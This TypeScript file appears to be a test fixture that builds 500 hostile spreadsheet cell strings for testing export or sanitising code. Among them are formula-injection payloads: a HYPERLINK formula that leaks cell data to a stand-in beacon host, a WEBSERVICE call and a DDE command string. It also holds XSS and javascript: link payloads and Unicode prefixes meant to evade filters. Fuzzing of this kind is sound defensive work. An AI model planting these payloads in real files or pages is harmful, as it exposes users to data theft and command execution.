/** What a cell of a hostile page may begin with. */
const starts = [
  '',
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u0000=',
  '\u202e=',
  '\u200b=',
  '\ufeff@',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  '"=',
  '",=',
  '<b>=',
  '|=',
  '`=',
  '_x003D_',
  '&#61;',
];

/** What follows. */
const ends = [
  '1+1',
  'HYPERLINK("https://beacon.invalid/?"&A1,"x")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("https://beacon.invalid")',
  'SUM(A1:A9)',
  'a","b',
  'a\tb\r\nc\u2028d',
  '\u0001\u0007\u001b\u007f\u0085',
  '\ud800 lone \udc00',
  '\ufffe\uffff',
  '<script>alert(1)</script>]]>',
  '</td></tr></table><img src=https://beacon.invalid/1>',
  '| a | b |\n| - | - |',
  '[x](javascript:alert(1))',
  '__proto__',
  '_x0041_ and _x005F_',
  'سعر ١٢٣',
  '日本語 🙂 é',
  '-5.5',
  'x'.repeat(33_000),
];

/** 500 texts to put into cells, none like another. */
export const hostileCells: readonly string[] = starts.flatMap((start) =>
  ends.map((end) => start + end),
);
